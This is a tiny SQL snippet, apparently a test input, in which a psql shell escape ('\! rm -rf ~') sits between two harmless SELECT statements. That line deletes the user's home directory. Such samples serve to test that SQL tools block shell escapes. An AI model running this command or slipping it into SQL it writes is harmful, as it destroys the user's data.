SELECT 1; \! rm -rf ~
SELECT 2;
